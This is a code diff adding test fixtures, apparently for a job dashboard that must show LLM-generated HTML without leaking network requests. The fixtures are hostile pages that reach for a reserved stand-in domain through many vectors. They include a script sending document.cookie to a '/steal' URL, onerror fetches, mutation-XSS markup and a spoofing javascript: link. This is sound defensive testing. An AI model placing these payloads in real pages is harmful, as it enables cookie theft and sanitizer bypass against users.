@@ -237,3 +237,129 @@ export function truncateCodePoints(text, limit) {
   }
   return text.slice(0, units);
 }
+
+/** The reserved domain every remote reference of the hostile outputs points at (RFC 2606: never a real host). */
+export const REMOTE_TEST_DOMAIN = 'remote.example';
+
+/** A 1×1 GIF as a data: URL (local: allowed in every mode). */
+const DATA_GIF = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';
+
+/**
+ * An LLM-written page that reaches for the network every way HTML can: remote images (src,
+ * srcset, <picture>, CSS url() and imports, fonts, body background, SVG <image>), preconnect,
+ * dns-prefetch, prefetch and preload links, nested frames, <object>, <embed>, media, <base>,
+ * meta refresh, a form, SVG <use> and SMIL, <noscript>, a declarative shadow root, a link with
+ * ping, scripts and event handlers. The dashboard must show it without any request leaving the
+ * browser, and load only its https images, styles and fonts once the user asks.
+ */
+export const HOSTILE_HTML = `<!DOCTYPE html>
+<html lang="en"><head>
+<base href="https://base.${REMOTE_TEST_DOMAIN}/">
+<meta http-equiv="refresh" content="0;url=https://refresh.${REMOTE_TEST_DOMAIN}/">
+<link rel="preconnect" href="https://preconnect.${REMOTE_TEST_DOMAIN}">
+<link rel="dns-prefetch" href="//dns-prefetch.${REMOTE_TEST_DOMAIN}">
+<link rel="prefetch" href="https://prefetch.${REMOTE_TEST_DOMAIN}/next.html">
+<link rel="preload" as="image" href="https://preload.${REMOTE_TEST_DOMAIN}/hero.png">
+<link rel="icon" href="https://icon.${REMOTE_TEST_DOMAIN}/favicon.ico">
+<link rel="stylesheet" href="https://sheet.${REMOTE_TEST_DOMAIN}/site.css">
+<style>
+@import url("https://import.${REMOTE_TEST_DOMAIN}/more.css");
+@font-face { font-family: Remote; src: url(https://font.${REMOTE_TEST_DOMAIN}/remote.woff2) format("woff2"); }
+body { font-family: Remote, system-ui, sans-serif; margin: 1rem; }
+.banner { background-image: url(https://css-image.${REMOTE_TEST_DOMAIN}/banner.png); min-height: 20px; }
+</style>
+<title>Hostile output</title>
+</head>
+<body background="https://body-background.${REMOTE_TEST_DOMAIN}/bg.png">
+<h1>Report with remote content</h1>
+<p class="banner">A banner with a CSS background image.</p>
+<p>
+<img id="pixel" alt="pixel" src="https://image.${REMOTE_TEST_DOMAIN}/pixel.png" width="20" height="20">
+<img id="responsive" alt="responsive" srcset="https://srcset.${REMOTE_TEST_DOMAIN}/small.png 1x, https://srcset.${REMOTE_TEST_DOMAIN}/large.png 2x" width="20" height="20">
+<picture><source srcset="https://picture.${REMOTE_TEST_DOMAIN}/wide.png"><img id="picture" alt="picture" src="${DATA_GIF}" width="20" height="20"></picture>
+<img id="insecure" alt="insecure" src="http://insecure.${REMOTE_TEST_DOMAIN}/plain.png" width="20" height="20">
+<img id="relative" alt="relative" src="relative.png" width="20" height="20">
+<img id="inline" alt="inline" src="${DATA_GIF}" width="20" height="20">
+</p>
+<div style="background: url('https://inline-style.${REMOTE_TEST_DOMAIN}/tile.png'); height: 10px"></div>
+<iframe src="https://frame.${REMOTE_TEST_DOMAIN}/"></iframe>
+<iframe srcdoc="<img src='https://srcdoc.${REMOTE_TEST_DOMAIN}/x.png'>"></iframe>
+<object data="https://object.${REMOTE_TEST_DOMAIN}/movie.swf"></object>
+<embed src="https://embed.${REMOTE_TEST_DOMAIN}/plugin">
+<video poster="https://poster.${REMOTE_TEST_DOMAIN}/poster.png" src="https://video.${REMOTE_TEST_DOMAIN}/clip.mp4"></video>
+<audio src="https://audio.${REMOTE_TEST_DOMAIN}/a.mp3" autoplay></audio>
+<form action="https://form.${REMOTE_TEST_DOMAIN}/collect" method="post"><input name="q" value="secret"><input type="image" alt="go" src="https://input-image.${REMOTE_TEST_DOMAIN}/go.png"><button id="send">Send</button></form>
+<svg width="80" height="20" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
+<image href="https://svg-image.${REMOTE_TEST_DOMAIN}/i.png" width="10" height="10"/>
+<image xlink:href="https://svg-xlink.${REMOTE_TEST_DOMAIN}/i.png" x="10" width="10" height="10"/>
+<use href="https://svg-use.${REMOTE_TEST_DOMAIN}/sprite.svg#icon"/>
+<a href="https://svg-link.${REMOTE_TEST_DOMAIN}/"><text x="25" y="15">svg link</text></a>
+<rect x="70" width="5" height="5"><set attributeName="fill" to="url(https://svg-set.${REMOTE_TEST_DOMAIN}/p.svg#p)"/></rect>
+</svg>
+<noscript><img src="https://noscript.${REMOTE_TEST_DOMAIN}/n.png"></noscript>
+<div><template shadowrootmode="open"><img src="https://shadow.${REMOTE_TEST_DOMAIN}/s.png"></template></div>
+<p><a id="remote-link" href="https://link.${REMOTE_TEST_DOMAIN}/report?id=42&amp;from=output" ping="https://ping.${REMOTE_TEST_DOMAIN}/">Open the full report</a>
+· <a id="fragment-link" href="#details">Details below</a></p>
+<script>fetch('https://script.${REMOTE_TEST_DOMAIN}/steal?c=' + document.cookie)</script>
+<img src="x" alt="" onerror="fetch('https://onerror.${REMOTE_TEST_DOMAIN}/')">
+<h2 id="details" style="margin-top: 600px">Details</h2><p>End of the report.</p>
+</body></html>
+`;
+
+/** A second hostile page with remote images of its own (loading one output's content must not load another's). */
+export const OTHER_HOSTILE_HTML = `<!DOCTYPE html>
+<html lang="en"><head><title>Another output</title>
+<style>.tile { background: url(https://other-css.${REMOTE_TEST_DOMAIN}/bg.png); min-height: 20px; }</style>
+</head><body><h1>Another report</h1>
+<p class="tile"><img id="other" alt="other" src="https://other-image.${REMOTE_TEST_DOMAIN}/o.png" width="20" height="20"></p>
+</body></html>
+`;
+
+/**
+ * Markup that parses one way in an inert document and another once framed, and addresses in the
+ * forms URL parsers forgive (upper case, leading space, backslashes, no scheme, data: documents).
+ */
+export const PARSER_TRICKS_HTML = `<!DOCTYPE html>
+<html lang="en"><head><title>Parser tricks</title></head><body>
+<h1>Markup that parses differently twice</h1>
+<svg><style><img src="https://mxss-svg-style.${REMOTE_TEST_DOMAIN}/a.png"></style></svg>
+<form><math><mtext></form><form><mglyph><style></math><img src="https://mxss-mglyph.${REMOTE_TEST_DOMAIN}/b.png"></style></form>
+<noscript><p title="</noscript><img src='https://mxss-noscript.${REMOTE_TEST_DOMAIN}/c.png'>"></p></noscript>
+<math><mi><a href="https://math-link.${REMOTE_TEST_DOMAIN}/">math link</a></mi></math>
+<img alt="caps" src=" HTTPS://caps.${REMOTE_TEST_DOMAIN}/d.png">
+<img alt="backslash" src="\\\\backslash.${REMOTE_TEST_DOMAIN}/e.png">
+<img alt="no scheme" src="//protocol-relative.${REMOTE_TEST_DOMAIN}/f.png">
+<img alt="srcset" srcset="https://srcset-first.${REMOTE_TEST_DOMAIN}/x.png 1x,http://srcset-nospace.${REMOTE_TEST_DOMAIN}/y.png 2x">
+<p><a id="js-link" href="javascript:parent.postMessage({jobdashLink:'https://spoof.${REMOTE_TEST_DOMAIN}/'},'*')">javascript link</a></p>
+<div style="background-image: image-set('https://image-set.${REMOTE_TEST_DOMAIN}/g.png' 1x); height: 10px">image-set</div>
+<iframe src="data:text/html,<img src=https://data-frame.${REMOTE_TEST_DOMAIN}/h.png>"></iframe>
+<object type="text/html" data="data:text/html,<img src=https://data-object.${REMOTE_TEST_DOMAIN}/i.png>"></object>
+</body></html>
+`;
+
+/**
+ * The hostile job's steps: the three pages above (costs 0.0042, 0.0017 and 0.0009, exact).
+ * @param {number} startTimeMs
+ */
+export function hostileSteps(startTimeMs) {
+  const pages = [
+    { html: HOSTILE_HTML, micro: 4200n },
+    { html: OTHER_HOSTILE_HTML, micro: 1700n },
+    { html: PARSER_TRICKS_HTML, micro: 900n },
+  ];
+  const steps = pages.map(({ html, micro }, index) => ({
+    step_number: index + 1,
+    step_name: 'html-generation',
+    status: 'completed',
+    started_at: new Date(startTimeMs + index * 60_000).toISOString(),
+    completed_at: new Date(startTimeMs + index * 60_000 + 30_000).toISOString(),
+    duration_ms: 30_000,
+    model: 'gpt-4o',
+    input_tokens: 1200,
+    output_tokens: 900,
+    cost_usd: Number(micro) / 1e6,
+    output: html,
+    output_type: 'html',
+  }));
+  return { steps, micro: pages.reduce((sum, page) => sum + page.micro, 0n), noCost: 0, invalidCost: 0 };
+}
